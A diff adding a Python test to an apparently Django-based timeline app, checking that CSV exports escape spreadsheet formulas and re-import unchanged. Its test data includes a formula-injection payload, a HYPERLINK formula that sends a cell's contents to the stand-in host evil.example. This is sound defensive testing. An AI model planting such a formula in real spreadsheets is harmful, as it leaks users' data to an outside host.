@@ -598,3 +598,38 @@ def test_new_events_round_trip_through_a_spreadsheet(admin_client, small_timelin
     answer(admin_client, upload(admin_client, content))
     event = Event.objects.get(slug="spread")
     assert (event.start, event.start_precision) == (datetime.date(1999, 3, 1), "month")
+
+
+FORMULAS = [
+    '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
+    "+1+2",
+    "-2+3",
+    "@SUM(A1:A2)",
+    "'=already quoted",
+]
+
+
+def test_exported_cells_never_run_as_formulas_and_come_back_as_they_were(
+    admin_client, small_timeline
+):
+    event = small_timeline["events"]["usaid"]
+    citation = event.citations.get()
+    for text in FORMULAS:
+        # Stored as typed, past the admin's cleaning (which makes quotes typographic).
+        Event.objects.filter(pk=event.pk).update(aliases=text, summary=text)
+        Citation.objects.filter(pk=citation.pk).update(quote=text)
+        events_csv = export(admin_client, "export_events_csv")
+        citations_csv = export(admin_client, "export_citations_csv")
+        (row,) = [row for row in csv_dicts(events_csv) if row["slug"] == "usaid"]
+        assert row["summary"] == "'" + text and row["aliases"] == "'" + text
+        (cited,) = [row for row in csv_dicts(citations_csv) if row["event"] == "usaid"]
+        assert cited["quote"] == "'" + text
+        before = snapshot()
+        for content, name in ((events_csv, "events.csv"), (citations_csv, "citations.csv")):
+            preview = upload(admin_client, content, name=name)
+            assert set(preview_actions(preview).values()) == {"unchanged"}, (text, name)
+        assert snapshot() == before
+
+
+def csv_dicts(content: bytes) -> list[dict]:
+    return list(csv.DictReader(io.StringIO(content.decode("utf-8-sig"))))
